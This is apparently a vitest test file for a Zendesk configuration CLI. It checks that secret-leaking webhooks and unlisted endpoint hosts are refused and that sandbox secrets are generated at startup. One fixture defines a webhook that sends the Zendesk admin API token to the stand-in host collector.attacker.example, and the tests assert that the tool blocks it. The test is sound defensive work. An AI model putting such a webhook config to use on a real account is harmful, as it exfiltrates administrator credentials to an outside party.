/**
 * Issue 9, "Done when": a webhook naming ZENDESK_API_TOKEN is refused by
 * validate, plan and apply, and nothing reaches Zendesk; an endpoint host
 * settings.yaml does not list is refused the same way; `npm start` makes up
 * the secrets and the fingerprint key it needs, and says so. Through the CLI
 * and node-zendesk over HTTP against the sandbox.
 */
import { rm } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { requestTotal, workspace, type Workspace } from './harness.ts';

let ws: Workspace;
beforeEach(async () => {
  ws = await workspace();
});
afterEach(() => ws.close());

const ADMIN_TOKEN = 'zd-admin-token-that-must-never-leave-5e2c';
const liveWebhooks = () => (ws.sandbox.state().collections.webhooks ?? []).map((w) => String(w.name));

describe('a webhook that names the admin token as its secret', () => {
  beforeEach(async () => {
    await ws.write(
      'config/webhooks/exfiltrate.yaml',
      'name: Ticket export\nendpoint: https://collector.attacker.example/in\nauthentication:\n  type: bearer_token\n  token_env: ZENDESK_API_TOKEN\n',
    );
  });

  it.each([['validate'], ['plan'], ['apply']])('is refused by %s at its line, and nothing is sent to Zendesk', async (command) => {
    const before = liveWebhooks();
    const result = await ws.run([command], { ZENDESK_API_TOKEN: ADMIN_TOKEN });
    expect(result.code).toBe(1);
    expect(result.stderr).toContain(
      "config/webhooks/exfiltrate.yaml:5:3: error: 'ZENDESK_API_TOKEN' cannot hold a webhook secret: only variables named ZENDESK_WEBHOOK_SECRET_* can (authentication.token_env)",
    );
    if (command !== 'validate') expect(result.stderr).toContain('nothing was sent to Zendesk');
    expect(requestTotal(ws.sandbox)).toBe(0);
    expect(liveWebhooks()).toEqual(before);
    expect(`${result.stdout}${result.stderr}`).not.toContain(ADMIN_TOKEN);
  });
});

describe('allowed endpoint hosts', () => {
  it('a webhook calling a host settings.yaml does not list is refused before any request', async () => {
    const settings = await ws.read('config/settings.yaml');
    await ws.write('config/settings.yaml', `${settings}\nwebhooks:\n  allowed_endpoint_hosts: [hooks.slack.com]\n`);
    expect((await ws.run(['validate'])).code).toBe(0);
    ws.sandbox.resetRequestCounts();
    await ws.edit('config/webhooks/sla-breach-alerts.yaml', 'https://hooks.slack.com/services/EXAMPLE/SLA/ALERTS', 'https://pager.elsewhere.example/sla');
    const apply = await ws.run(['apply']);
    expect(apply.code).toBe(1);
    expect(apply.stderr).toContain(
      "config/webhooks/sla-breach-alerts.yaml:4:1: error: endpoint host 'pager.elsewhere.example' is not in webhooks.allowed_endpoint_hosts (config/settings.yaml) (endpoint)",
    );
    expect(requestTotal(ws.sandbox)).toBe(0);
  });
});

describe('npm start', () => {
  it('makes up the webhook secrets and the fingerprint key for the sandbox, says so, and converges', async () => {
    const unset = {
      ZENDESK_WEBHOOK_SECRET_SLACK_LIVE_FEED: undefined, ZENDESK_WEBHOOK_SECRET_SLA_BREACH_ALERTS: undefined, ZENDESK_WEBHOOK_FINGERPRINT_KEY: undefined,
    };
    const result = await ws.run(['start', '--state', '.sandbox/state.json'], unset);
    expect(result.stdout).toContain(
      'Sandbox only: made-up webhook secrets for ZENDESK_WEBHOOK_SECRET_SLA_BREACH_ALERTS, ZENDESK_WEBHOOK_SECRET_SLACK_LIVE_FEED, '
        + 'the fingerprint key ZENDESK_WEBHOOK_FINGERPRINT_KEY (set them to use your own).',
    );
    expect(result.stdout).toContain('Verified: Zendesk now matches config/.');
    expect(result.code).toBe(0);
    expect(result.stderr).not.toMatch(/not set here|easy to guess/);
    await rm(join(ws.dir, '.sandbox'), { recursive: true, force: true });
  });
});
